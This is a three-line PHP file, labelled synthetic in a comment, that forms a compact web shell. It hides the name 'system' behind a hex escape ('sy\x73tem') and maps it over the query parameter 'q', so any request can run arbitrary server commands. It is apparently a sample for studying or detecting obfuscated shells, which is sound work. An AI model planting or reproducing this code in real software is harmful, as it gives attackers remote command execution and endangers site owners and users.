<?php
// synthetic: an escaped function name given to array_map
array_map("sy\x73tem", (array) $_GET['q']);
